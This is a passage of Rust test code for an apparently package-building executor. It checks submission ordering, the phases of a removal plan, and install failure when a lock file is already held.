        let toolchain = ShellToolchain::default().on_install("one", "sleep 0.2; echo one done");
        let handle = ExecutorHandle::spawn(fx.executor(toolchain));
        let first = handle.submit(one, ReviewLedger::new()).unwrap();
        let second = handle.submit(two, ReviewLedger::new()).unwrap();

        assert!(second.wait().await.unwrap()[0].is_success());
        assert!(first.wait().await.unwrap()[0].is_success());

        let events = fx.log.snapshot();
        let last_one = events.iter().rposition(|e| e.item == "one").unwrap();
        let first_two = events.iter().position(|e| e.item == "two").unwrap();
        assert!(last_one < first_two);
    }

    #[tokio::test]
    async fn test_removal_plan() {
        let fx = Fixture::new();
        let plan = BuildPlan::removal("bar", &Version::new("1-1"));
        let (_tx, mut cancel) = no_cancel();
        let outcomes = fx
            .executor(ShellToolchain::default())
            .execute(&plan, &ReviewLedger::new(), &mut cancel)
            .await
            .unwrap();

        assert!(outcomes[0].is_success());
        let phases: Vec<Phase> = fx.log.events_for("bar").iter().map(|e| e.phase).collect();
        assert!(!phases.contains(&Phase::Fetch));
        assert!(!phases.contains(&Phase::Build));
        assert_eq!(phases.last(), Some(&Phase::Done));
    }

    #[tokio::test]
    async fn test_held_lock_fails_install() {
        let fx = Fixture::new();
        let _held = AdvisoryLock::acquire(&fx.dir.path().join("pacsmith.lock"), Duration::ZERO)
            .await
            .unwrap();
        let plan = plan(vec![PackageRecord::new("bar", "1-1", Origin::BinaryRepo)], "bar");

        let (_tx, mut cancel) = no_cancel();
        let outcomes = fx
            .executor(ShellToolchain::default())
            .with_locks(
                fx.dir.path().join("pacsmith.lock"),
                Path::new("/nonexistent/db.lck"),
                Duration::from_millis(300),
            )
            .execute(&plan, &ReviewLedger::new(), &mut cancel)
            .await
            .unwrap();

        assert!(matches!(
            outcome(&outcomes, "bar"),
            TransactionOutcome::Failed {
                reason: FailureReason::Lock(_)
            }
        ));
    }
}
